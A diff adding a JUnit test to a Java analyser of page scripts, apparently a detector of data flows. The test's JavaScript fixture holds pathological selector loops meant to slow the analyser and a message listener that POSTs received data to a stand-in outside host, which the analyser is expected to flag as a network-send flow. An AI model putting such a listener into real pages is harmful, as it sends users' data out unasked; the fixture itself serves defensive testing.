@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.Map;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
 
 /** What scripts of pages do with elements, as far as it is not told by the page that is left in the end. */
 class PageElementsTest {
@@ -84,6 +85,19 @@ class PageElementsTest {
                 """);
 
         assertThat(analysis.flowNames()).contains("user-input -> network-send");
+    }
+
+    @Test
+    @Timeout(20)
+    void hostileSelectorsTakeNoTime() {
+        Analysis analysis = of("""
+                const blanks = ' '.repeat(100000);
+                for (let i = 0; i < 2000; i++) document.querySelectorAll('p' + blanks + i);
+                for (let i = 0; i < 20000; i++) document.querySelector('#a' + i + '>b:c,d[e="f"]');
+                addEventListener('message', e => fetch('https://far.example/', { method: 'POST', body: e.data }));
+                """);
+
+        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
     }
 
     @Test
